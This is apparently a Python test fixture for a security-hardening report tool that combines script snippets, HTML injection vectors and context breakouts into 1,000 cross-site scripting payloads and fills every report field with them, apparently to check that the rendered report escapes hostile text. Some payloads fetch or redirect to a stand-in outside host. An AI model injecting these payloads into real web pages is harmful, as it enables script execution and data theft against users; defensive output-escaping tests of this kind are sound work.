"""A thousand texts that would do something in a page that believed them."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from hardencheck.model.attestation import Attestation, Attested, ManualControl
from hardencheck.model.change import Cause, Change, Comparison
from hardencheck.model.outcome import HostState, Outcome
from hardencheck.model.report import Report, Standing, Waived
from hardencheck.model.result import Reason, RuleResult
from hardencheck.model.sweep import HostResult
from hardencheck.model.waiver import WaiverState
from tests.report.floor import floor, report_of

_DO = (
    "alert(1)", "document.title='owned'", "fetch('http://198.51.100.7/')", "location='http://198.51.100.7/'",
    "document.body.remove()",
)  # fmt: skip
_HOW = (
    "<script>{}</script>", "</script><script>{}</script>", "</style><script>{}</script>", "<ScRiPt >{}</sCrIpT >",
    "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<form action=javascript:{}><button autofocus>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='javascript:{}//'>", "javascript:{}",
    "<link rel=stylesheet href='data:text/css,*{{x:{}}}'>", "<style>@import 'http://198.51.100.7/{}';</style>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}>", "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>", "+ADw-script+AD4-{}+ADw-/script+AD4-", "<scr\x00ipt>{}</script>",
    "<p style=\"background:url('javascript:{}')\">", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script>{}</script>",
    "{{{{ {} }}}}", "{{% raw %}}{}", "${{{}}}", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>", "<textarea><script>{}</script>", "<plaintext>{}",
    "<xmp><script>{}</script>", "<marquee onstart={}>", "\u2028<script>{}</script>",
)  # fmt: skip
_OUT = ("{}", "\"{}", "'>{}", "\">{}", "</td></tr></table>{}", "--></title></style></textarea>{}", "\u202e{}\u202c",
        "\x1b]8;;http://198.51.100.7/\x07{}", "x=\"\n{}", "`>{}")  # fmt: skip


_WHOLE = [out.format(how.format(do)) for do in _DO for out in _OUT for how in _HOW]

#: every way in, every way out and every deed; 7 and the number of all of them have no factor in common
PAYLOADS = [_WHOLE[7 * number % len(_WHOLE)] for number in range(1000)]


def hostile(texts: list[str], named: bool = False) -> Report:
    """Return ten hosts whose every word is one of 1000 texts, one for each host and rule."""
    hosts = []
    baseline = floor(10, 100).baseline
    for place in range(10):
        said = texts[place * 100 : place * 100 + 100]
        made = tuple(
            RuleResult(rule.id, (Outcome.FAIL, Outcome.UNKNOWN, Outcome.NOTSELECTED)[n % 3], rule.severity, rule.theme,
                       text, (Reason(text, [text], text, text, text),) if n % 2 else (), {"length": text}, text)
            for n, (rule, text) in enumerate(zip(baseline.rules, said, strict=True))
        )  # fmt: skip
        labels = {"client": said[0], "process_unit": said[1], "site": said[2], "owner": said[3]}
        name = said[4] if named else f"host {place}"
        hosts.append(HostResult(name, HostState.PARTIAL, said[5], said[6], labels, (said[7],), said[8], 99.0, 1.0,
                                said[9], made))  # fmt: skip
    waivers = {
        (host.host, r.rule_id): Waived(r.message, r.message, r.message, r.message, r.message, r.message, r.message)
        for host in hosts
        for r in host.results[::7]
    }
    report = report_of(tuple(hosts), baseline, waivers)
    return replace(
        report,
        waivers=tuple(
            Standing(waived, key[1], waived.reason, list(WaiverState)[place % 6], (key[0],), (key[0],), (key[0],))
            for place, (key, waived) in enumerate(waivers.items())
        ),
        changes=_changes(tuple(hosts), said),
        attested=tuple(_attested(text, place) for place, text in enumerate(said)),
    )


def _changes(hosts: tuple[HostResult, ...], texts: list[str]) -> Comparison:
    """Return a change of every third result; a sentence of the sweep before is hostile too, and so are its names."""
    changes = tuple(
        Change(host.host, r.rule_id, r.severity, Outcome.PASS, r.outcome, False, False, (Cause.HOST,), text, r.message)
        for host in hosts
        for r, text in [*zip(host.results, texts, strict=True)][::3]
    )
    return Comparison(texts[0], texts[1], texts[2], texts[3], (texts[4],), (texts[5],), changes)


def _attested(text: str, place: int) -> Attested:
    control = ManualControl(text, text, text, 1)
    if place % 2:
        return Attested(control, None, None, Outcome.NOTCHECKED)
    outcome = (Outcome.PASS, Outcome.NOTCHECKED)[place % 3 > 0]
    return Attested(control, Attestation(text, text, date(2026, 1, 1), text, text), date(2026, 1, 2), outcome)


def plain(texts: list[str]) -> list[str]:
    """Return as many harmless texts, each its own."""
    return [f"text {place}" for place in range(len(texts))]
